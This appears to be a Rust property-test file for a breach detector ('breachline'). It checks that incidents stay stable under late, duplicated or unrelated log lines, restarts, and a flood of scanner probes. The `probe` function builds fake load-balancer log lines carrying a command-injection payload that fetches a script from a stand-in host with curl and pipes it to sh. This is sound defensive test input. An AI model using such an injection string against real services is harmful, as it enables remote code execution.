//! What must hold of the whole detector, whatever arrives when: order, duplicates, unrelated lines, restarts, bounds.
//!
//! Each case is a day and a few hours of one host: services that learn, are used and scanned, and breaches of any scripted kind.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::net::SocketAddr;
use std::time::Duration;

use breachline::config::Config;
use breachline::detector::{Detector, Part};
use breachline::event::HostEvent;
use breachline::incident::{Candidate, Candidates, Incident};
use breachline::timestamp::Timestamp;
use breachline_tests::simulate::access_log::Line;
use breachline_tests::simulate::corpus::Corpus;
use breachline_tests::simulate::machine::Machine;
use breachline_tests::simulate::ordinary;
use breachline_tests::simulate::random::Random;
use breachline_tests::simulate::scene::Scene;
use breachline_tests::simulate::service::{Service, host_address};
use breachline_tests::simulate::story::{BREACH, Story};
use breachline_tests::simulate::{beginning, later};
use proptest::prelude::*;

/// Latest that a line may be, seconds: the default bound less what a request itself takes.
const LATEST: u64 = 6 * 3600 - 120;

/// What is heard, in order of arrival.
#[derive(Clone, Copy)]
enum Heard<'s> {
    Event(&'s HostEvent),
    Line(&'s Line),
}

/// The story as it is heard: events at once, each line as late as `delays` says (in turn).
fn heard<'s>(story: &'s Story, delays: &[u64]) -> Vec<(Timestamp, Heard<'s>)> {
    let events = story.events.iter().map(|event| (event.at, Heard::Event(event)));
    let lines = story
        .lines
        .iter()
        .zip(delays.iter().cycle())
        .map(|(line, delay)| (line.completed.plus(Duration::from_secs(*delay)), Heard::Line(line)));
    let mut all: Vec<_> = events.chain(lines).collect();
    all.sort_by_key(|(at, _)| *at);
    all
}

/// A detector with what it raised.
struct Run {
    detector: Detector,
    raised: Vec<Incident>,
    tick: Timestamp,
}

impl Run {
    fn new() -> Self {
        let detector = Detector::new(&Config::default()).expect("builds");
        Self { detector, raised: Vec::new(), tick: beginning() }
    }

    fn advance(&mut self, at: Timestamp) {
        while self.tick <= at {
            self.detector.advance(self.tick, &mut self.raised);
            self.tick = later(self.tick, 60.0);
        }
    }

    fn hear(&mut self, at: Timestamp, heard: Heard<'_>) {
        self.advance(at);
        match heard {
            Heard::Event(event) => {
                self.detector.host(event, &mut self.raised);
            }
            Heard::Line(line) => {
                let mut text = String::new();
                line.render(&mut text);
                self.detector.edge(&line.service, text.as_bytes(), &mut self.raised);
            }
        }
    }

    fn of(all: &[(Timestamp, Heard<'_>)]) -> Self {
        let mut run = Self::new();
        all.iter().for_each(|(at, heard)| run.hear(*at, *heard));
        run
    }

    /// The agent stops and starts again: its memory is saved and read, the rest is asked of /proc.
    fn restart(&mut self, snapshot: &[HostEvent]) {
        self.reborn();
        for fact in snapshot {
            self.detector.host(fact, &mut self.raised);
        }
    }

    /// Only what is saved is left.
    fn reborn(&mut self) {
        let baseline = self.detector.baseline().to_bytes().expect("serialises");
        let before = &self.detector;
        let restored = Detector::restore(&Config::default(), Some(&baseline), |part| Some(before.checkpoint(part)));
        self.detector = restored.expect("builds");
    }

    /// The last word on every incident, once nothing can change any more.
    fn finals(mut self) -> BTreeMap<String, Incident> {
        let end = later(self.tick, 30.0 * 3600.0);
        self.advance(end);
        let mut finals = BTreeMap::new();
        for incident in self.raised {
            let last = if incident.superseded_by.is_some() { None } else { Some(whole(&incident)) };
            finals.insert(incident.id.clone(), last);
        }
        finals.into_iter().filter_map(|(id, last)| Some((id, last?))).collect()
    }
}

/// All that an incident says in the end, but for what counts its revisions: how many there were, and whether the last one came
/// when all was over or said all before.
fn whole(incident: &Incident) -> Incident {
    Incident { revision: 0, settled: true, ..incident.clone() }
}

/// What holds of a breach amid one source's hundreds of probes: what a source sent before a line came tells how much the line weighs
/// (`edge::scanner_noise`), and so does how a target failed before (`edge::error_rate`). Of all other breaches the whole is compared.
fn comparable(story: &Story, finals: BTreeMap<String, Incident>) -> BTreeMap<String, Incident> {
    if story.breach != AMID_PROBES {
        return finals;
    }
    let outline = |incident: Incident| {
        let Incident { id, severity, stages, first_seen, last_seen, workload, exposures, campaign, .. } = incident;
        let ranked =
            incident.candidates.ranked.into_iter().take(1).map(|best| Candidate { weight: 0.0, verdict: None, ..best });
        let candidates = Candidates { ranked: ranked.collect(), ..Candidates::default() };
        let outline = Incident {
            id: id.clone(),
            severity,
            stages,
            first_seen,
            last_seen,
            workload,
            exposures,
            campaign,
            candidates,
            ..Incident::default()
        };
        (id, outline)
    };
    finals.into_values().map(outline).collect()
}

/// The kind of breach that comes amid a scanner's burst.
const AMID_PROBES: &str = "amid a scanner's burst";

/// The first field in which two sets of incidents differ, for people: two incidents are pages.
fn difference(one: &BTreeMap<String, Incident>, other: &BTreeMap<String, Incident>) -> Option<String> {
    if one.keys().ne(other.keys()) {
        return Some(format!("incidents {:?} and {:?}", one.keys(), other.keys()));
    }
    let json = |incident: &Incident| serde_json::to_value(incident).expect("an incident has a JSON form");
    one.values().zip(other.values()).filter(|(one, other)| one != other).find_map(|(one, other)| {
        let (one, other) = (json(one), json(other));
        let fields = one.as_object()?.keys().chain(other.as_object()?.keys());
        let differs = fields.into_iter().find(|field| one[field.as_str()] != other[field.as_str()])?;
        Some(format!("{}: {differs} is\n{:#}\nand\n{:#}", one["title"], one[differs], other[differs]))
    })
}

/// Cases of each property; `PROPTEST_CASES=400` for the long run. A story is a day and a half: hundreds take minutes even in a release
/// build.
fn cases() -> u32 {
    std::env::var("PROPTEST_CASES").ok().and_then(|text| text.parse().ok()).unwrap_or(4)
}

fn delays() -> impl Strategy<Value = Vec<u64>> {
    proptest::collection::vec(prop_oneof![Just(0), 0..400_u64, 0..LATEST], 1..60)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: cases(), ..ProptestConfig::default() })]

    #[test]
    fn however_late_each_line_is_the_final_incidents_are_the_same(seed: u64, delays in delays()) {
        let story = Story::of(seed);
        let at_once = Run::of(&heard(&story, &[0])).finals();
        prop_assert_eq!(difference(&comparable(&story, Run::of(&heard(&story, &delays)).finals()), &comparable(&story, at_once)), None);
    }

    #[test]
    fn lines_heard_twice_change_nothing(seed: u64, delays in delays(), later_by in 0..3600_u64) {
        let story = Story::of(seed);
        let once = heard(&story, &delays);
        let again = |(at, heard): &(Timestamp, _)| match heard {
            Heard::Line(_) => Some((at.plus(Duration::from_secs(later_by)), *heard)),
            Heard::Event(_) => None,
        };
        let mut twice = once.clone();
        // What would come too late comes once.
        let bound = |at: Timestamp, heard: Heard<'_>| matches!(heard, Heard::Line(line) if at.since(line.completed).as_secs() < LATEST);
        twice.extend(once.iter().filter_map(again).filter(|(at, heard)| bound(*at, *heard)));
        twice.sort_by_key(|(at, _)| *at);
        prop_assert_eq!(difference(&comparable(&story, Run::of(&twice).finals()), &comparable(&story, Run::of(&once).finals())), None);
    }

    #[test]
    fn lines_for_others_change_nothing(seed: u64, count in 1..2000_u16) {
        let story = Story::of(seed);
        let alone = heard(&story, &[0]);
        let corpus = Corpus::made();
        let mut machine = Machine::boot(host_address(9), later(beginning(), -3600.0));
        let mut random = Random::of(seed, &[22]);
        let elsewhere = Service::of(8).start(&mut machine, beginning(), 9, 0, 0, &mut random);
        let mut lines = Vec::new();
        for number in 0..count {
            let at = later(beginning(), BREACH - 900.0 + f64::from(number));
            let mut scene = Scene { machine: &mut machine, lines: &mut lines, random: &mut random, instance: &elsewhere, at };
            let client = scene.user();
            ordinary::scanned(&mut scene, &corpus.hostile, client);
        }
        let mut among = alone.clone();
        among.extend(lines.iter().map(|line| (line.completed, Heard::Line(line))));
        among.sort_by_key(|(at, _)| *at);
        prop_assert_eq!(difference(&Run::of(&among).finals(), &Run::of(&alone).finals()), None);
    }

    #[test]
    fn a_restart_after_the_breach_changes_nothing(seed: u64, delays in delays()) {
        let story = Story::of(seed);
        let all = heard(&story, &delays);
        let straight = Run::of(&all).finals();
        let mut run = Run::new();
        let last_event = story.events.iter().map(|event| event.at).max().unwrap_or(Timestamp::MIN);
        let (before, after) = all.split_at(all.partition_point(|(at, _)| *at <= last_event));
        before.iter().for_each(|(at, heard)| run.hear(*at, *heard));
        run.restart(&story.snapshot);
        after.iter().for_each(|(at, heard)| run.hear(*at, *heard));
        prop_assert_eq!(difference(&run.finals(), &straight), None);
    }

    #[test]
    fn restarts_at_any_points_change_nothing(
        seed: u64,
        delays in delays(),
        cuts in proptest::collection::vec(any::<prop::sample::Index>(), 1..4),
    ) {
        let story = Story::of(seed);
        let all = heard(&story, &delays);
        let straight = Run::of(&all).finals();
        let mut cuts: Vec<usize> = cuts.iter().map(|cut| cut.index(all.len())).collect();
        // One in the middle of the breach, whatever else.
        cuts.push(all.partition_point(|(at, _)| *at < later(beginning(), BREACH + 0.2)));
        let mut run = Run::new();
        for (number, (at, one)) in all.iter().enumerate() {
            if cuts.contains(&number) {
                run.reborn();
                let before = all[..number].iter();
                let events = before.filter_map(|(_, one)| if let Heard::Event(event) = one { Some(*event) } else { None });
                events.for_each(|event| run.detector.recall(event));
            }
            run.hear(*at, *one);
        }
        prop_assert_eq!(difference(&run.finals(), &straight), None);
    }

    #[test]
    fn what_contradicts_a_line_is_another_line_and_takes_nothing_away(seed: u64, delays in delays()) {
        let story = Story::of(seed);
        let straight = Run::of(&heard(&story, &delays)).finals();
        let contradicted: Vec<Line> = story.lines.iter().map(|line| Line { status: 404, ..line.clone() }).collect();
        let mut both = heard(&story, &delays);
        both.extend(contradicted.iter().map(|line| (line.completed, Heard::Line(line))));
        both.sort_by_key(|(at, _)| *at);
        let found = Run::of(&both).finals();
        for (id, last) in &straight {
            let as_bad = found.get(id).is_some_and(|found| found.severity >= last.severity);
            prop_assert!(as_bad, "{id}: {last:?} became {:?}", found.get(id));
        }
    }
}

/// Probes of the flood; `BREACHLINE_FLOOD=10000000` for the long run, of which one in ten has a client address of its own.
fn flood() -> u32 {
    std::env::var("BREACHLINE_FLOOD").ok().and_then(|text| text.parse().ok()).unwrap_or(30_000)
}

/// When a probe comes: they are spread over twenty minutes around the breach.
fn probed(number: u32) -> Timestamp {
    later(beginning(), BREACH - 600.0 + f64::from(number) * 1200.0 / f64::from(flood()))
}

/// A probe that looks like an exploit, as ALB writes it.
fn probe(number: u32, target: SocketAddr, text: &mut String) {
    let [_, second, third, fourth] = (number / 10).to_be_bytes();
    let at = probed(number);
    text.clear();
    let _ = write!(
        text,
        "http {at} app/flood/50dc6c495c0c9188 9.{second}.{third}.{fourth}:40100 {target} 0.001 0.001 0.000 404 404 34 366 \
         \"GET http://shop.example:80/{number}?q=;curl%20http://198.51.100.7/{number}|sh HTTP/1.1\" \"probe\" - - \
         arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/73e2d6bc24d8a067 \"Root=1-1-2\" \"-\" \"-\" 0 {at} \
         \"forward\" \"-\" \"-\" \"{target}\" \"404\" \"-\" \"-\""
    );
}

#[test]
fn a_flood_of_probes_from_everywhere_leaves_a_bounded_memory_and_the_breach_in_it() {
    let mut found = 0;
    for seed in 0..6 {
        let story = Story::of(seed);
        let straight = Run::of(&heard(&story, &[0])).finals();
        let begins = later(beginning(), BREACH);
        let whole: Vec<_> =
            straight.iter().filter(|(_, last)| last.stages.len() >= 2 && !last.candidates.ranked.is_empty()).collect();
        let target = story.lines.iter().find(|line| line.received >= begins).map(|line| line.target);
        let (Some(target), false) = (target, whole.is_empty()) else { continue };
        let mut run = Run::new();
        let mut text = String::new();
        let mut probes = 0;
        for (at, one) in heard(&story, &[0]) {
            while probes < flood() && probed(probes) <= at {
                probe(probes, target, &mut text);
                run.detector.edge("flood", text.as_bytes(), &mut run.raised);
                probes += 1;
            }
            run.hear(at, one);
        }
        assert_eq!(probes, flood());
        for (part, bound) in [(Part::Chains, 64 << 20), (Part::Edge, 2 << 20), (Part::Coverage, 4 << 20)] {
            let bytes = run.detector.checkpoint(part).len();
            eprintln!("seed {seed}: {part:?} {bytes} bytes after {probes} probes");
            assert!(bytes <= bound, "{part:?} {bytes}");
        }
        let finals = run.finals();
        for (id, last) in whole {
            let after = finals.get(id);
            assert!(after.is_some_and(|after| after.stages.len() >= 2), "{seed} {id}: {last:?} became {after:?}");
            found += 1;
        }
    }
    assert!(found > 0, "no story had a breach to find");
}
